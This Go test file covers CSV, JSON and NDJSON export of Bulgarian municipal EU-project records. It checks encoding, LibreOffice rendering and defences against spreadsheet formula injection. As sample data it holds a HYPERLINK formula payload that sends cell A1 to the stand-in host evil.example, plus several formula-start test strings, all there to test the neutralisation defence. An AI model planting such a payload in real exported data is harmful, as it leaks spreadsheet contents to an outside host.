package dataset

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
)

func fptr(v float64) *float64 { return &v }

// sampleRecords are records with the text a municipal page gives: Cyrillic,
// quotes, commas, line breaks, nulls, and cells a spreadsheet would run.
func sampleRecords() []Record {
	nine := 9
	return []Record{
		{
			ID: "13-13-24", Title: "Въвеждане на ефективни механизми за мониторинг и контрол в община „Септември“",
			ContractNumbers: []string{"13-13-24"}, ProcedureCodes: []string{"BG051PO002/13/1.3-07"},
			Programme: "OPAC", ProgrammeName: "Оперативна програма „Административен капацитет“", Funds: []string{"ESF"},
			Beneficiary: "Община Септември", Municipality: "Септември", Contractors: []string{"НИКО 96 ЕООД"},
			Budget:     Budget{Total: fptr(79829.24), Grant: fptr(79829.24), CofinancingRate: fptr(100), Currency: "BGN", TotalEUR: fptr(40816.04)},
			Period:     Period{Start: "2013-11-13", End: "2014-11-13", DurationMonths: &nine},
			Objectives: []string{"Цел едно, с запетая", "Цел „две“; с \"кавички\""},
			Activities: []string{"-изготвяне на анализ", "обучения\nна служители"},
			Published:  "2014-09-29",
			Sources:    []Source{{URL: "https://www.septemvri.org/proekti/opak-13-13-24.html", FetchedAt: "2026-11-21T10:00:00Z", SHA256: "ab"}},
			Documents:  []Document{{URL: "https://www.septemvri.org/doc.pdf", Text: "Договор"}},
			Warnings:   []string{"period: 9 months stated, the dates span 12"},
			FirstSeen:  "2026-11-21T10:00:00Z", Updated: "2026-11-21T10:00:00Z",
			RegisterMatch: RegisterMatched,
			Register: &Register{RegisterContract: RegisterContract{Number: "13-13-24-C01", Name: "=Механизми", Beneficiary: "ОБЩИНА СЕПТЕМВРИ",
				BeneficiaryEIK: "000351713", Status: "Приключен", Start: "2013-11-13", End: "2014-12-31", TotalEUR: fptr(40816.04),
				PaidEUR: fptr(39000.5), Places: []string{"България, Пазарджик (BG423), Септември, гр.Септември", "Септември"},
				Programme: "ОПАК", FileDate: "2026-01-05"},
				MatchedNumber: "13-13-24", Match: "registration_number",
				Disagreements: []Disagreement{{Field: "end", Page: "2014-11-13", Register: "2014-12-31"}, {Field: "title", Page: "a", Register: "b"}}},
			RegisterUnmatched: []string{"BG16RFOP001-1.001-0099"},
		},
		{
			ID: "3f2a9c", Title: `=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
			Beneficiary: "+359 2 123", Municipality: "@Пещера", Partners: []string{"\tTAB", "\rCR", "－full width"},
			Budget:    Budget{Total: fptr(12345678.9), Currency: "EUR", TotalEUR: fptr(12345678.9), EU: fptr(0.1)},
			Withdrawn: "2026-11-22",
		},
		{ID: "empty"},
	}
}

func encodeAll(t *testing.T, format string, recs []Record) []byte {
	t.Helper()
	var buf bytes.Buffer
	enc, err := NewEncoder(format, &buf)
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range recs {
		if err := enc.Encode(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := enc.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// TestCSVEqualsJSON parses the CSV back with encoding/csv and checks every
// cell against the JSON download of the same records, read by each
// column's record field path.
func TestCSVEqualsJSON(t *testing.T) {
	recs := sampleRecords()
	rawCSV := encodeAll(t, FormatCSV, recs)
	rawJSON := encodeAll(t, FormatJSON, recs)
	if !bytes.HasPrefix(rawCSV, []byte("\xEF\xBB\xBF")) {
		t.Fatalf("no UTF-8 BOM: % x", rawCSV[:3])
	}
	rows, err := csv.NewReader(bytes.NewReader(rawCSV[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var objs []map[string]any
	if err := json.Unmarshal(rawJSON, &objs); err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(objs)+1 || len(objs) != len(recs) {
		t.Fatalf("%d CSV rows, %d JSON objects, %d records", len(rows), len(objs), len(recs))
	}
	for i, c := range Columns {
		if rows[0][i] != c.Name {
			t.Errorf("header %d = %q, want %q", i, rows[0][i], c.Name)
		}
	}
	for r, obj := range objs {
		for i, c := range Columns {
			want := expectedCell(t, lookup(obj, c.Field), c.Type)
			if got := rows[r+1][i]; got != want {
				t.Errorf("record %d column %s: CSV %q, JSON gives %q", r, c.Name, got, want)
			}
		}
	}
}

// lookup reads a field path ("budget.total", "sources[].url") from decoded JSON.
func lookup(obj map[string]any, path string) any {
	head, rest, nested := strings.Cut(path, ".")
	if list, ok := strings.CutSuffix(head, "[]"); ok {
		var out []any
		items, _ := obj[list].([]any)
		for _, it := range items {
			out = append(out, it.(map[string]any)[rest])
		}
		return out
	}
	if nested {
		inner, ok := obj[head].(map[string]any)
		if !ok {
			return nil // a null object: every field of it is empty
		}
		return lookup(inner, rest)
	}
	return obj[path]
}

// expectedCell writes a JSON value the way api.md says a CSV cell looks:
// null empty, numbers with a dot and no exponent, lists joined with " | ",
// text starting with = + - @ tab or CR behind a "'".
func expectedCell(t *testing.T, v any, typ string) string {
	switch x := v.(type) {
	case nil:
		return ""
	case float64:
		return strconv.FormatFloat(x, 'f', -1, 64)
	case string:
		if x != "" && strings.ContainsAny(x[:1], "=+-@\t\r") || strings.HasPrefix(x, "－") {
			x = "'" + x
		}
		return strings.ReplaceAll(x, "\r", "\n")
	case []any:
		var parts []string
		for _, it := range x {
			parts = append(parts, fmt.Sprint(it))
		}
		return expectedCell(t, strings.Join(parts, " | "), typ)
	}
	t.Fatalf("unexpected JSON value %T", v)
	return ""
}

func TestCSVFormulaCellsNeutralized(t *testing.T) {
	raw := encodeAll(t, FormatCSV, sampleRecords()[1:2])
	rows, err := csv.NewReader(bytes.NewReader(raw[3:])).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cell := func(name string) string {
		for i, c := range Columns {
			if c.Name == name {
				return rows[1][i]
			}
		}
		t.Fatalf("no column %s", name)
		return ""
	}
	tests := []struct{ column, want string }{
		{"title", `'=HYPERLINK("http://evil.example/?leak="&A1,"click")`},
		{"beneficiary", "'+359 2 123"},
		{"municipality", "'@Пещера"},
		{"partners", "'\tTAB | \nCR | －full width"},
		{"budget_total", "12345678.9"},
		{"budget_eu", "0.1"},
		{"withdrawn", "2026-11-22"},
	}
	for _, tt := range tests {
		if got := cell(tt.column); got != tt.want {
			t.Errorf("%s = %q, want %q", tt.column, got, tt.want)
		}
	}
	for _, c := range []string{"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "＝1"} {
		if got := SafeCell(c); !strings.HasPrefix(got, "'") {
			t.Errorf("SafeCell(%q) = %q, not neutralized", c, got)
		}
	}
	for _, c := range []string{"Проект", "1-2", " =x", "'quoted"} {
		if got := SafeCell(c); got != c {
			t.Errorf("SafeCell(%q) = %q, want it unchanged", c, got)
		}
	}
}

func TestEmptyDownloads(t *testing.T) {
	tests := []struct{ format, want string }{
		{FormatCSV, "\uFEFF" + columnHeader() + "\r\n"},
		{FormatJSON, "[]\n"},
		{FormatNDJSON, ""},
	}
	for _, tt := range tests {
		if got := string(encodeAll(t, tt.format, nil)); got != tt.want {
			t.Errorf("%s: %q, want %q", tt.format, got, tt.want)
		}
	}
	if _, err := NewEncoder("xlsx", nil); ErrorCode(err) != EINVALID {
		t.Errorf("NewEncoder(xlsx) = %v, want invalid", err)
	}
}

func columnHeader() string {
	var names []string
	for _, c := range Columns {
		names = append(names, c.Name)
	}
	return strings.Join(names, ",")
}

func TestJSONAndNDJSONCarryTheSameRecords(t *testing.T) {
	recs := sampleRecords()
	var arr []json.RawMessage
	if err := json.Unmarshal(encodeAll(t, FormatJSON, recs), &arr); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(string(encodeAll(t, FormatNDJSON, recs)), "\n"), "\n")
	if len(arr) != len(recs) || len(lines) != len(recs) {
		t.Fatalf("%d array items, %d lines, %d records", len(arr), len(lines), len(recs))
	}
	for i := range recs {
		var a, b Record
		if err := json.Unmarshal(arr[i], &a); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal([]byte(lines[i]), &b); err != nil {
			t.Fatalf("line %d: %v", i, err)
		}
		ja, _ := json.Marshal(a)
		jb, _ := json.Marshal(b)
		jr, _ := json.Marshal(recs[i])
		if !bytes.Equal(ja, jb) || !bytes.Equal(ja, jr) {
			t.Errorf("record %d differs:\n%s\n%s\n%s", i, ja, jb, jr)
		}
	}
	if !strings.Contains(lines[0], `"title":"Въвеждане`) {
		t.Errorf("Cyrillic is escaped or lost: %.80s", lines[0])
	}
}

// TestCSVOpensInLibreOffice converts the CSV download with LibreOffice Calc
// (Debian's libreoffice-calc) to HTML and checks the cells. Headless
// conversion has no import dialog, so the test passes the options that dialog
// offers for a UTF-8 file (comma, double quote, UTF-8); the BOM must then be
// consumed, not shown in the first header cell.
func TestCSVOpensInLibreOffice(t *testing.T) {
	soffice, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("soffice not found: install Debian's libreoffice-calc to run this test")
	}
	if testing.Short() {
		t.Skip("LibreOffice takes seconds to start")
	}
	dir := t.TempDir()
	csvPath := filepath.Join(dir, "projects.csv")
	if err := os.WriteFile(csvPath, encodeAll(t, FormatCSV, sampleRecords()), 0o644); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(soffice, "--headless", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
		"--infilter=CSV:44,34,76,1", "--convert-to", "html", "--outdir", dir, csvPath)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v\n%s", err, out)
	}
	html, err := os.ReadFile(filepath.Join(dir, "projects.html"))
	if err != nil {
		t.Fatal(err)
	}
	cells := regexp.MustCompile(`(?s)<td[^>]*>(.*?)</td>`).FindAllStringSubmatch(string(html), -1)
	if len(cells) < 3*len(Columns) {
		t.Fatalf("LibreOffice shows %d cells, want %d", len(cells), 3*len(Columns))
	}
	if cells[0][1] != "id" {
		t.Errorf("first header cell = %q: the BOM leaked", cells[0][1])
	}
	page := string(html)
	for _, want := range []string{
		"Въвеждане на ефективни механизми за мониторинг и контрол в община „Септември“",
		"Оперативна програма „Административен капацитет“",
		"'=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;click&quot;)",
		`sdval="79829.24"`, `sdval="12345678.9"`, // numbers read as numbers
		`sdval="41591" sdnum="1033;0;YYYY-MM-DD">2013-11-13`, // ISO dates read as dates
	} {
		if !strings.Contains(page, want) {
			t.Errorf("LibreOffice's rendering lacks %q", want)
		}
	}
	if strings.Contains(page, `href="http://evil.example`) {
		t.Error("the HYPERLINK formula was run")
	}
}

// FuzzCSVEncoder: any record text gives a CSV that parses back into one row
// of the right width per record, with every text cell formula-safe.
func FuzzCSVEncoder(f *testing.F) {
	f.Add("=HYPERLINK(\"x\")", "+1", "a\r\nb")
	f.Add("Проект „Име“", "\"", "\xff\xfe")
	f.Add("@", "-", "\t")
	f.Fuzz(func(t *testing.T, title, muni, item string) {
		r := Record{ID: "x", Title: title, Municipality: muni, Activities: []string{item, title}, Budget: Budget{Total: fptr(1)}}
		var buf bytes.Buffer
		enc := NewCSVEncoder(&buf)
		if err := enc.Encode(r); err != nil {
			t.Fatal(err)
		}
		if err := enc.Close(); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\uFEFF")))).ReadAll()
		if err != nil {
			t.Fatalf("unparseable CSV: %v\n%q", err, buf.String())
		}
		if len(rows) != 2 || len(rows[1]) != len(Columns) {
			t.Fatalf("rows %d, width %d", len(rows), len(rows[1]))
		}
		for i, cell := range rows[1] {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("column %s starts with %q: %q", Columns[i].Name, cell[:1], cell)
			}
		}
		if want := SafeCell(title); rows[1][1] != want {
			t.Errorf("title cell %q, want %q", rows[1][1], want)
		}
	})
}
